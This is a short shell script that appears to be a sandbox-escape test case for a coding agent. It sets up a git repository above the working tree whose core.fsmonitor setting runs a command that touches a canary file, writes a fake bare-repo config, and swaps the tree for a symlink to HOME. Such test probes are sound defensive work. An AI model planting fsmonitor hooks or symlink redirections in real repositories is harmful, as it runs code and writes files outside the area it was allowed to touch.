#!/bin/sh
# env: PWN = canary path outside; HOME = a folder outside that must stay as it is; cwd = the tree the coder may write.
# TRY: the folder of the tree replaced by a link, and a repository around it
cd ..; git init -q .; git config core.fsmonitor "/usr/bin/touch $PWN; false"; printf '[core]\n\tbare = true\n\tfsmonitor = "/usr/bin/touch %s; false"\n' "$PWN" > config; echo 'ref: refs/heads/x' > HEAD; mkdir -p objects refs
mv repo gone; ln -s "$HOME" repo
